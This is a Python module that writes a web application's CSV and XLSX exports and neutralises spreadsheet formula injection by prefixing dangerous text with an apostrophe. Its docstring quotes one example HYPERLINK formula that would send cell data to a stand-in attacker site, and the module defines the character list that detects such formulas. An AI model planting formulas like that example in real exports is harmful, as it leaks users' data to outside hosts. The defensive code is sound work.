"""The one writer of spreadsheets and CSV files: every export goes through here.

A cell whose text begins with = + - @, a tab or a carriage return is a formula (or becomes one)
when Excel or LibreOffice opens the file: `=HYPERLINK("http://evil.example/?"&A1,"click")` in
an organization's name would send the data to another site. As OWASP recommends ("CSV
Injection"), such text is written with a leading apostrophe, so it shows as the text it is;
in XLSX it is also stored as a string cell, never a formula. Numbers, dates and Decimals pass
unchanged (a negative amount stays a number).

API:
- `neutralise(value)`: the value safe for a cell (text changed only when it is dangerous);
- `CsvWriter(binary_stream)`: `.writerow(values)`; UTF-8 with a BOM (Excel reads the Chinese
  right); None → "", dates ISO 8601; `.close()` flushes and leaves the stream open;
- `append_row(sheet, values)`: one row on an openpyxl sheet (normal or write-only); values
  may be WriteOnlyCell objects (their value is neutralised too);
- `xlsx_cell(sheet, value, number_format=None, font=None)`: a formatted cell for a
  write-only sheet;
- `XlsxSheet(stream, title, widths=..., streamed=True)`: a one-sheet workbook written with
  XlsxWriter, the fastest writer (2.6× openpyxl's write-only mode for the ledger): `.style(...)`
  a cell format, `.writerow(values, styles)`, `.close()` writes the file. Streamed, each row goes
  to a temporary file as it comes (memory stays flat at any size); otherwise the sheet is built
  in memory, faster for a small one.
"""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import xlsxwriter
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """Text that a spreadsheet would run as a formula, prefixed with an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class CsvWriter:
    """CSV rows to a binary stream, every cell neutralised."""

    def __init__(self, stream):
        self._text = io.TextIOWrapper(stream, encoding="utf-8-sig", newline="")
        self._writer = csv.writer(self._text)

    def writerow(self, values):
        self._writer.writerow([_csv_text(v) for v in values])

    def close(self):
        self._text.flush()
        self._text.detach()  # the stream stays open for the caller


def _csv_text(value):
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.isoformat(sep=" ", timespec="minutes")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, int | float | Decimal):
        return value  # a number we computed, never text someone typed
    return neutralise(str(value))


def csv_bytes(rows):
    """A whole (small) CSV file as bytes."""
    out = io.BytesIO()
    writer = CsvWriter(out)
    for row in rows:
        writer.writerow(row)
    writer.close()
    return out.getvalue()


def _xlsx_value(value):
    if isinstance(value, Cell):
        if isinstance(value.value, str) and value.value.startswith(FORMULA_STARTS):
            value.value = neutralise(value.value)
            value.data_type = "s"
        return value
    if hasattr(value, "__html__") or type(value).__name__ == "LazyString":
        value = str(value)
    return neutralise(value)


def append_row(sheet, values):
    """Append one row of values to an openpyxl worksheet, text neutralised."""
    sheet.append([_xlsx_value(v) for v in values])


def xlsx_cell(sheet, value, number_format=None, font=None):
    """A write-only cell with a number format and font; its text neutralised."""
    made = WriteOnlyCell(sheet, neutralise(value))
    if number_format:
        made.number_format = number_format
    if font:
        made.font = font
    return made


class XlsxSheet:
    """One sheet of rows written to a binary stream with XlsxWriter: text as string cells
    (neutralised, never a formula), numbers and Decimals as numbers, dates as dates, None and
    "" as a blank cell; a frozen header row."""

    def __init__(self, stream, title, *, widths=(), streamed=True):
        options = {"constant_memory": True} if streamed else {"in_memory": True}
        self._book = xlsxwriter.Workbook(stream, options)
        self._sheet = self._book.add_worksheet(title)
        for column, width in enumerate(widths):
            self._sheet.set_column(column, column, width)
        self._sheet.freeze_panes(1, 0)
        self._row = 0

    def style(self, number_format=None, *, bold=False):
        """A cell format for writerow's styles."""
        properties = {"bold": True} if bold else {}
        if number_format:
            properties["num_format"] = number_format
        return self._book.add_format(properties)

    def writerow(self, values, styles=None):
        """Write one row; styles: {column: a format from style()}, or one for every cell."""
        for column, value in enumerate(values):
            style = styles.get(column) if isinstance(styles, dict) else styles
            _write_cell(self._sheet, self._row, column, value, style)
        self._row += 1

    def close(self):
        self._book.close()  # the stream stays open for the caller


def _write_cell(sheet, row, column, value, style):
    if value is None or value == "":
        if style is not None:
            sheet.write_blank(row, column, None, style)
    elif isinstance(value, bool):
        sheet.write_boolean(row, column, value, style)
    elif isinstance(value, int | float | Decimal):
        sheet.write_number(row, column, value, style)
    elif isinstance(value, datetime | date):
        sheet.write_datetime(row, column, value, style)
    else:
        sheet.write_string(row, column, neutralise(str(value)), style)
